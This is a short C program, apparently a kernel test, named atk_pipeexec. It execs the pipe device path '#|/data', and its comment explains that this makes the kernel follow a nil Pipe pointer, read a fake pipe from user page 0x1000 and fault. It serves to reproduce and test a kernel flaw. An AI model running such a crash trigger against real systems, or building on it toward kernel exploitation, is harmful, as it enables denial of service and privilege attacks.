/*
 * atk_pipeexec: exec "#|/data".  kexec reads the program through the
 * channel namec gave it without opening it, and a pipe's buffer (the
 * channel's aux) exists only once an end is open: piperead follows a
 * nil Pipe pointer, so the kernel reads its "pipe" out of user page
 * 0x1000 and faults on page 0.
 */
#include <stdio.h>
#include <unistd.h>

int
main(void)
{
	static char *argv[] = { "data", NULL };

	exec("#|/data", argv);
	perror("atk_pipeexec: exec #|/data");
	return 0;
}
